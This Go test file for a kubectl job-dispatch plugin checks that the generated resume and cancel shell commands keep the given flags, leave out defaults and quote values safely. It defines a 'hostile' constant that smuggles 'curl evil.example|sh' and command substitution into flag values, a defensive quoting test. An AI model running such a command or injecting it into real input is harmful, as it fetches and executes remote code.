package cmd

import (
	"slices"
	"strings"
	"testing"

	"github.com/spf13/cobra"
	"github.com/spf13/pflag"
	"gotest.tools/v3/assert"

	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/cmd/dispatch"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/cmd/util"
)

// hostile is a value with characters that shells interpret.
const hostile = "-x; curl evil.example|sh #`$(x)`'\"\n,y=z"

// sample returns values of a flag other than its default.
func sample(flag *pflag.Flag) []string {
	switch flag.Name {
	case "dry-run":
		return []string{"server"}
	case "on-interrupt":
		return []string{"delete"}
	case "v":
		return []string{"3"}
	}
	switch flag.Value.Type() {
	case "bool":
		return []string{"true"}
	case "duration":
		return []string{"-7m30s"}
	case "stringArray":
		return []string{hostile, "--context", ""}
	case "stringSlice":
		return []string{`"` + strings.ReplaceAll(hostile, `"`, `""`) + `",b`, "c"}
	case "stringToString":
		return []string{"b=-c", "a.example/x=", `"k=` + strings.ReplaceAll(hostile, `"`, `""`) + `"`}
	}
	return []string{hostile}
}

// parsedCommand returns a command of a new tree, with flags as a user would give them.
func parsedCommand(t *testing.T, name string, args ...string) *cobra.Command {
	t.Helper()
	root, _ := newRootCommand(util.Environment{})
	called, rest, err := root.Find(append([]string{name}, args...))
	assert.NilError(t, err)
	assert.Equal(t, called.Name(), name)
	assert.NilError(t, called.ParseFlags(rest), "%q", args)
	return called
}

// TestResumeCommandHasAllFlags: the command that resumes a dispatch has every flag of dispatch, with the
// same value.
func TestResumeCommandHasAllFlags(t *testing.T) {
	var names []string
	parsedCommand(t, "dispatch").Flags().VisitAll(func(flag *pflag.Flag) { names = append(names, flag.Name) })
	assert.Assert(t, len(names) > 40, "%q", names)
	for _, name := range names {
		t.Run(name, func(t *testing.T) {
			if name == "help" {
				return
			}
			before := parsedCommand(t, "dispatch")
			// The logging flag belongs to the whole process.
			t.Cleanup(func() { assert.NilError(t, before.Flag("v").Value.Set("0")) })
			for _, value := range sample(before.Flag(name)) {
				assert.NilError(t, before.Flags().Set(name, value), "%q", value)
			}
			commands := dispatch.NewResumeCommands(before, "mana ger", []string{"-w"})
			again := commands.Resume("ml", []string{"train", "jobset/x"})
			words := shelltest.Words(t, again.Shell())
			assert.DeepEqual(t, words, again.Words())
			assert.DeepEqual(t, words[:3], []string{"kubectl", "jobs-managedby", "dispatch"})

			after := parsedCommand(t, "dispatch", words[3:]...)
			assert.DeepEqual(t, after.Flags().Args(), []string{"train", "jobset/x"})
			assert.Equal(t, after.Flag("namespace").Value.String()+" "+after.Flag("context").Value.String()+" "+after.Flag("to").Value.String(), "ml mana ger [-w]")
			switch flag := after.Flag(name); {
			case slices.Contains([]string{"namespace", "context", "to"}, name):
			case slices.Contains([]string{"filename", "selector", "kinds", "detach-after-start"}, name):
				assert.Assert(t, !flag.Changed)
			case name == "token":
				assert.Assert(t, flag.Value.String() == "TOKEN" && !strings.Contains(again.Shell(), "evil"), again.Shell())
			default:
				assert.Assert(t, flag.Changed && before.Flag(name).Changed)
				assert.DeepEqual(t, util.ValuesOf(after.Flags(), flag), util.ValuesOf(before.Flags(), before.Flag(name)))
			}

			end := shelltest.Words(t, commands.Cancel("ml", []string{"train"}).Shell())
			parsedCommand(t, "cancel", end[3:]...)
		})
	}
}

// TestResumeCommandOmitsDefaults: flags that were not given are not repeated.
func TestResumeCommandOmitsDefaults(t *testing.T) {
	was := parsedCommand(t, "dispatch", "-f", "train.yaml", "--to", "worker-1", "--mirror-ttl", "1h", "--strip-labels", "a,b", "--set-labels", "q=x,p=y",
		"--namespace-to", "batch", "--with-secret=s", "--with-secret=t", "--as-multikueue", "--as", "jo", "--detach-after-start=false", "--with-dependencies")
	commands := dispatch.NewResumeCommands(was, "management", []string{"worker-1"})
	assert.Equal(t, commands.Resume("ml", []string{"train"}).Shell(), "kubectl jobs-managedby dispatch train -n ml --context management --to worker-1 "+
		"--as jo --as-multikueue --mirror-ttl 1h0m0s --namespace-to batch --set-labels p=y,q=x --strip-labels a,b --with-dependencies --with-secret s --with-secret t")
	several := dispatch.NewResumeCommands(parsedCommand(t, "dispatch", "--to", "w*", "--spread"), "management", []string{"worker-2", "worker-1"})
	assert.Equal(t, several.Resume("ml", []string{"train"}).Shell(), "kubectl jobs-managedby dispatch train -n ml --context management --to worker-2,worker-1 --spread")
	odd := dispatch.NewResumeCommands(parsedCommand(t, "dispatch"), "management", []string{"a,b", "c"})
	assert.Equal(t, odd.Resume("ml", []string{"train"}).Shell(), "kubectl jobs-managedby dispatch train -n ml --context management --to a,b --to c")
	assert.Equal(t, commands.Cancel("ml", []string{"train"}).Shell(), "kubectl jobs-managedby cancel train -n ml --context management --as jo --as-multikueue")
}
